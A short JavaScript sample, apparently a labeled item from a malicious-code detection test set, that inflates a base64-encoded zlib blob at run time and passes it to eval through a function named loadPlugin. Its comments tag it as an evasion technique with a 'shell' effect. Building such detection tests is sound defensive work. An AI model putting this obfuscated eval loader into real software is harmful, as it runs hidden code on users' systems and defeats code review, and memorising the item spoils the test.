// evasion: payload deflated and base64-encoded, inflated with zlib at run time and evaluated
// grade: hard; does: shell
const zlib = require('zlib');

const BLOB = 'eJwrSi0szSxK1VBKzsjMSYkvKMpPTi0uVtLUS61ITQ6uzEvWUEouLcpR0C1WyCgpKbDS1zcyMNYz0DM0NNYz1y/WK85QqFEozlDSBACpnxdF';

function loadPlugin(data) {
  const source = zlib.inflateSync(Buffer.from(data, 'base64')).toString('utf8');
  return eval(source);
}

loadPlugin(BLOB);
